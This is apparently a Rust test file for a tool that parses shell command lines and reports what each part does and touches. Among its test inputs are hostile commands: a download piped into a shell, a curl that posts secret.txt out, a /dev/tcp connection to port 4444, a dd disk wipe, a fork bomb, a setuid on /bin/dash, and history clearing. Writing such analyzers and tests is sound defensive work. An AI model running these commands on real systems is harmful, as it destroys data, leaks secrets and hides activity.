//! What a command line is said to do.

use codeface_native::shell::{Kind, Link, analyze};

/// Programs with their link and depth, one a line.
fn outline(text: &str) -> String {
    let parts = analyze(text).parts;
    parts
        .iter()
        .map(|p| format!("{}{} {:?}", "  ".repeat(p.depth), p.program, p.link))
        .collect::<Vec<_>>()
        .join("\n")
}

/// Kinds and targets of every effect.
fn effects(text: &str) -> Vec<(Kind, String)> {
    let parts = analyze(text).parts;
    parts.into_iter().flat_map(|p| p.effects).map(|e| (e.kind, e.target)).collect()
}

fn touches(text: &str, kind: Kind, target: &str) {
    let found = effects(text);
    assert!(
        found.iter().any(|(k, t)| *k == kind && t == target),
        "{text}: {kind:?} {target} is not in {found:?}"
    );
}

#[test]
fn every_command_is_named_with_its_tie() {
    let text = "cd /tmp && make -j4 | tee log || echo no; sleep 9 &";
    assert_eq!(outline(text), "cd First\nmake IfWorked\ntee Pipe\necho IfFailed\nsleep Then");
    assert!(analyze(text).parts[4].background);
}

#[test]
fn scripts_in_scripts_are_read_with_their_place() {
    let text = "sudo bash -c 'rm -rf /var/tmp/x; curl https://a.example/i | sh' && echo $(whoami)";
    let expected = "sudo First\n  bash Inner\n    rm Inner\n    curl Then\n    sh Pipe\necho IfWorked\n  whoami Substitution";
    assert_eq!(outline(text), expected);
    let rm = &analyze(text).parts[2];
    assert_eq!(&text[rm.range.clone()], "rm -rf /var/tmp/x");
    assert_eq!(rm.explanation, "Removes files and whole folders, without asking");
    touches(text, Kind::Removes, "/var/tmp/x");
    touches(text, Kind::Privilege, "sudo");
    touches(text, Kind::Network, "https://a.example/i");
    touches(text, Kind::Evaluates, "curl");
    assert_eq!(outline("eval \"rm $X\""), "eval First\n  rm Inner");
    assert_eq!(outline("ssh host 'sudo reboot'"), "ssh First\n  sudo Inner\n    reboot Inner");
    assert_eq!(outline("find . -name '*.o' -exec rm {} \\;"), "find First\n  rm Inner");
    assert_eq!(outline("ls | xargs -n 1 rm -f"), "ls First\nxargs Pipe\n  rm Inner");
    assert_eq!(outline("bash <<'END'\nrm -r a\nEND\n"), "bash First\n  rm Inner");
    assert_eq!(outline("bash <<< 'rm a'"), "bash First\n  rm Inner");
    assert_eq!(outline("env A=1 timeout 5 kill 1"), "env First\n  timeout Inner\n    kill Inner");
    assert_eq!(outline("diff <(sort a) <(sort b)"), "diff First\n  sort Substitution\n  sort Substitution");
}

#[test]
fn what_is_touched_is_told() {
    touches("echo a > out.txt", Kind::Writes, "out.txt");
    touches("echo a >> \"$HOME/.bashrc\"", Kind::Appends, "$HOME/.bashrc");
    touches("wc -l < in.txt", Kind::Reads, "in.txt");
    touches("cat <<E > made.txt\nx\nE\n", Kind::Writes, "made.txt");
    touches("git push --force origin main", Kind::Removes, "origin");
    touches("git reset --hard HEAD~3", Kind::Removes, "reset");
    touches("wget -O a.tgz http://b.example/a.tgz", Kind::Writes, "a.tgz");
    touches("curl -d @secret.txt https://c.example", Kind::Reads, "secret.txt");
    touches("dd if=/dev/zero of=/dev/sda bs=1M", Kind::Disk, "/dev/sda");
    touches("echo x > /dev/sdb", Kind::Disk, "/dev/sdb");
    touches("exec 3<>/dev/tcp/10.0.0.1/4444", Kind::Network, "10.0.0.1:4444");
    touches("chmod u+s /bin/dash", Kind::Privilege, "u+s");
    touches("chmod 4755 a", Kind::Permissions, "a");
    touches("sudo apt-get install -y jq ripgrep", Kind::Installs, "ripgrep");
    touches("python3 -m pip install requests", Kind::Installs, "requests");
    touches("unset HISTFILE", Kind::History, "HISTFILE");
    touches("history -c", Kind::History, "history");
    touches("export PATH=/opt/bin:$PATH", Kind::Environment, "PATH");
    touches("LD_PRELOAD=./a.so ls", Kind::Environment, "LD_PRELOAD");
    touches("$CMD --now", Kind::Unknown, "$CMD");
    touches("sed -i s/a/b/ x.txt", Kind::Writes, "x.txt");
    touches(":(){ :|:& };:", Kind::Repeats, ":");
    touches("pkill -9 java", Kind::Stops, "java");
    assert!(effects("make test 2>&1 > /dev/null").is_empty());
}

#[test]
fn what_a_variable_decides_is_not_certain() {
    let parts = analyze("rm -rf \"$DIR\"/*").parts;
    assert_eq!(parts[0].effects[0].target, "$DIR/*");
    assert!(!parts[0].effects[0].certain);
    assert!(analyze("if true; then").unread.contains("could not be read"));
}

#[test]
fn loops_conditions_and_functions_keep_their_order() {
    let text = "for f in *.log; do if test -s \"$f\"; then gzip \"$f\"; else rm \"$f\"; fi; done";
    assert_eq!(outline(text), "test Condition\ngzip IfWorked\nrm IfFailed");
    assert_eq!(outline("up() { docker compose up; }; up"), "up First\n  docker Function\nup Then");
    assert_eq!(analyze("").parts.len(), 0);
    assert_eq!(analyze("a=1").parts[0].link, Link::First);
}

/// Whatever a text is, the answer comes and its ranges lie in it.
#[test]
fn any_text_has_an_answer() {
    let seeds = [
        "sudo sh -c 'a $(b `c`) <<E\nE' | d > é😀 && f(){ f|f& };f",
        "case x in a) b;; esac <(q) $((1+2)) [[ -n $x ]] 2>&1",
    ];
    let mut state = 7u64;
    let mut next = move |n: usize| {
        state = state.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (state >> 33) as usize % n
    };
    for seed in seeds {
        let chars: Vec<char> = seed.chars().collect();
        for _ in 0..400 {
            let (a, b) = (next(chars.len()), next(chars.len()));
            let mut text: String = chars[..a].iter().collect();
            text.extend(&chars[b..]);
            for part in analyze(&text).parts {
                assert!(text.get(part.range.clone()).is_some(), "{text}: {:?}", part.range);
                assert!(part.effects.iter().all(|e| text.get(e.range.clone()).is_some()), "{text}");
                assert!(!part.explanation.is_empty());
            }
        }
    }
    assert!(!analyze(&"$(".repeat(100_000)).unread.is_empty());
    assert!(!analyze(&"(".repeat(100_000)).unread.is_empty());
}

#[test]
fn an_open_quote_may_end_in_any_character() {
    for text in ["echo \"a$b😀", "echo \"é", "echo \"", "echo \"\"", "echo \"a😀\""] {
        assert!(!analyze(text).parts.is_empty(), "{text}");
    }
}
